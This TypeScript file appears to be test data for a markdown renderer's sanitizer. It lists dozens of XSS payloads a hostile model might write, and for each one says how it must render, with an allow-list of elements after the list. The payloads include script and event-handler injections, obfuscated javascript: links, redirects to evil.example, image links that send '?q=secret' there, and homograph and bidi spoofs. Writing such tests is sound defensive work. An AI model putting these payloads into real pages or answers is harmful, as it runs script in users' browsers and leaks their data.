/**
 * What a hostile or broken model may write. Data, so that the tests in a real browser take the same list.
 *
 * For each case the renderer must make no element and no address outside of what `allowed` names; `shows` is text that
 * must be readable, `links` are the addresses that may be followed, in order.
 */
export interface Attack {
  name: string;
  markdown: string;
  shows?: string;
  links?: string[];
}

const RLO = "\u202e";
const LRI = "\u2066";

export const attacks: Attack[] = [
  { name: "script element", markdown: "<script>alert(1)</script>", shows: "<script>alert(1)</script>" },
  { name: "script in a code block", markdown: "```html\n<script>alert(1)</script>\n```", shows: "<script>alert(1)</script>" },
  { name: "image with a handler", markdown: '<img src=x onerror="alert(1)">', shows: "<img src=x onerror" },
  { name: "svg with a handler", markdown: "<svg onload=alert(1)><circle/></svg>", shows: "<svg onload=alert(1)>" },
  { name: "iframe", markdown: '<iframe src="https://evil.example"></iframe>', shows: "<iframe" },
  { name: "object and embed", markdown: '<object data="x"></object><embed src="x">', shows: "<object" },
  { name: "style element", markdown: "<style>body{display:none}</style>", shows: "<style>" },
  { name: "form", markdown: '<form action="https://evil.example"><input name=p></form>', shows: "<form" },
  { name: "meta refresh", markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example">', shows: "<meta" },
  { name: "base element", markdown: '<base href="https://evil.example/">', shows: "<base" },
  { name: "link element", markdown: '<link rel=stylesheet href="https://evil.example/a.css">', shows: "<link" },
  { name: "html comment that hides", markdown: "a <!-- hidden --> b", shows: "<!-- hidden -->" },
  { name: "half a tag", markdown: "<img src='https://evil.example/", shows: "<img src=" },
  { name: "closing tags", markdown: "</div></main></body>text", shows: "</div></main></body>text" },
  { name: "anchor in html", markdown: '<a href="javascript:alert(1)">x</a>', shows: '<a href="javascript:alert(1)">x</a>' },
  { name: "a line break that is more", markdown: "<br onclick=alert(1)>x", shows: "onclick=alert(1)" },
  { name: "entities", markdown: "&lt;script&gt;alert(1)&lt;/script&gt;", shows: "script" },
  { name: "html in a table", markdown: "| a |\n|---|\n| <img src=x onerror=alert(1)> |", shows: "<img src=x" },
  { name: "html in a heading", markdown: "# <img src=x onerror=alert(1)>", shows: "<img src=x" },
  { name: "javascript link", markdown: "[x](javascript:alert(1))", shows: "[x](javascript:alert(1)" },
  { name: "javascript in capitals", markdown: "[x](JaVaScRiPt:alert(1))", shows: "[x](JaVaScRiPt" },
  { name: "javascript with a tab", markdown: "[x](java\tscript:alert(1))" },
  { name: "javascript with a line's end", markdown: "[x](java\nscript:alert(1))" },
  { name: "javascript behind a space", markdown: "[x]( javascript:alert(1))" },
  { name: "javascript behind a control character", markdown: "[x](\u0001javascript:alert(1))" },
  { name: "javascript with an entity", markdown: "[x](javascript&#58;alert(1))" },
  { name: "javascript percent-encoded", markdown: "[x](%6Aavascript:alert(1))" },
  { name: "javascript in angle brackets", markdown: "[x](<javascript:alert(1)>)" },
  { name: "javascript autolink", markdown: "<javascript:alert(1)>", shows: "<javascript:alert(1)>" },
  { name: "vbscript link", markdown: "[x](vbscript:msgbox(1))", shows: "vbscript" },
  { name: "data link", markdown: "[x](data:text/html,<script>alert(1)</script>)", shows: "data:text/html" },
  { name: "data link in base64", markdown: "[x](data:text/html;base64,PHNjcmlwdD4=)", shows: "data:text/html" },
  { name: "blob link", markdown: "[x](blob:https://evil.example/1)", shows: "blob:" },
  { name: "file link", markdown: "[x](file:///etc/passwd)", shows: "file:///etc/passwd" },
  { name: "link without a scheme", markdown: "[x](//evil.example/a)", shows: "[x](//evil.example/a)" },
  { name: "link within this page", markdown: "[x](/api/targets)", shows: "[x](/api/targets)" },
  { name: "link with backslashes", markdown: "[x](\\\\evil.example)" },
  { name: "link with an attribute in it", markdown: '[x](https://a.example/"onmouseover="alert(1))', links: ["https://a.example/%22onmouseover=%22alert(1)"] },
  { name: "link with a title", markdown: '[x](https://a.example "onclick=alert(1)")', shows: "x", links: ["https://a.example/"] },
  { name: "link definition", markdown: "[x][1]\n\n[1]: javascript:alert(1)", shows: "[x]" },
  { name: "nested links", markdown: "[a [b](https://b.example) c](https://c.example)", shows: "b" },
  { name: "a link that looks like another", markdown: "[https://bank.example](https://evil.example)", shows: "https://bank.example", links: ["https://evil.example/"] },
  { name: "a user name that looks like a host", markdown: "[bank](https://bank.example@evil.example/)", links: ["https://bank.example@evil.example/"] },
  { name: "letters of another alphabet", markdown: "[x](https://аpple.com/)", links: ["https://xn--pple-43d.com/"] },
  { name: "image that carries data away", markdown: "![a](https://evil.example/?q=secret)", shows: "a", links: ["https://evil.example/?q=secret"] },
  { name: "image without a text", markdown: "![](https://evil.example/?q=secret)", shows: "https://evil.example/?q=secret", links: ["https://evil.example/?q=secret"] },
  { name: "image in a link", markdown: "[![a](https://evil.example/a.png)](https://b.example)", shows: "a" },
  { name: "data image", markdown: "![a](data:image/svg+xml,<svg onload=alert(1)>)", shows: "data:image/svg+xml" },
  { name: "image in a table", markdown: "| a |\n|---|\n| ![x](https://evil.example/a.png) |", links: ["https://evil.example/a.png"] },
  { name: "image by reference", markdown: "![x][1]\n\n[1]: https://evil.example/a.png" },
  { name: "bare address with javascript", markdown: "see http://javascript:alert(1) there" },
  { name: "bare address with quotes", markdown: 'see https://a.example/"><script>alert(1)</script> there', shows: "alert(1)" },
  { name: "language that leaves its class", markdown: '```js" onload="alert(1)\ncode\n```', shows: "code" },
  { name: "language with other classes", markdown: "```btn copy primary\ncode\n```", shows: "code" },
  { name: "equation with html", markdown: "$<img src=x onerror=alert(1)>$ and \\(<b>x</b>\\)", shows: "<img src=x" },
  { name: "equation block with html", markdown: "$$\n<script>alert(1)</script>\n$$\n", shows: "<script>alert(1)</script>" },
  { name: "text turned around", markdown: `access ${RLO}gnp.exe`, shows: "⟨U+202E⟩" },
  { name: "code turned around", markdown: `\`\`\`js\nif (a) { /* ${RLO}${LRI} */ }\n\`\`\``, shows: "⟨U+202E⟩⟨U+2066⟩" },
  { name: "address turned around", markdown: `[x](https://evil.example/${RLO}gnp.exe)`, links: ["https://evil.example/gnp.exe"] },
  { name: "a name that JavaScript has", markdown: "[x](__proto__) constructor __proto__", shows: "constructor" },
  { name: "zero bytes", markdown: "a\u0000<script\u0000>alert(1)</script>" },
  { name: "half a character", markdown: "\ud83d [x](https://a.example/\udc00)" },
  { name: "task that is a form", markdown: '- [x] <input type="submit" formaction="javascript:alert(1)">', shows: "<input" },
  { name: "marks without an end", markdown: "**a *b `c ~~d [e ![f $g", shows: "**a *b `c ~~d [e ![f $g" },
];

/** Elements and attributes that an answer may consist of. */
export const allowed = {
  elements: (
    "p h3 h4 h5 h6 blockquote br hr ul ol li em strong s code pre a span div table thead tbody tr th td figure " +
    "figcaption button"
  ).split(" "),
  attributes: "dir href rel target title start class tabindex role aria-label type".split(" "),
  classes: /^(table|btn copy|language-[a-z0-9+-]+)$/,
  addresses: /^(https?:\/\/|mailto:)/,
};
